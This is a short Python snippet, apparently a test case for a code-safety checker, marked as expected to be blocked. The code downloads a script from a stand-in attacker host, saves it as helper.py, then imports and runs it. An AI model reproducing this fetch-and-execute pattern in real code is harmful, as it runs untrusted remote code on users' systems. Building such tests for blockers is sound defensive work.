# expect: BLOCKED
import urllib.request, importlib, sys
open("helper.py", "wb").write(urllib.request.urlopen("http://evil.test/h.py").read())
import helper
helper.main()
